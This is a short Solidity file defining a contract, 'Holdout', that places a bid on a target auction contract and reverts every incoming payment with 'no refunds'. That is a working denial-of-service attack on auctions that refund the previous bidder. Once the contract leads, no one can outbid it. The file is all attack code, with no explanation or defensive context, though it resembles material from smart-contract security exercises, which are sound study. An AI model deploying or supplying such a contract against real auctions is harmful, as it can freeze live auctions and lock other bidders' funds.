pragma solidity 0.5.17;

contract Holdout {
    function bid(address auction) external payable {
        (bool ok, ) = auction.call.value(msg.value)(abi.encodeWithSignature("bid()"));
        require(ok, "bid failed");
    }

    function() external payable {
        revert("no refunds");
    }
}
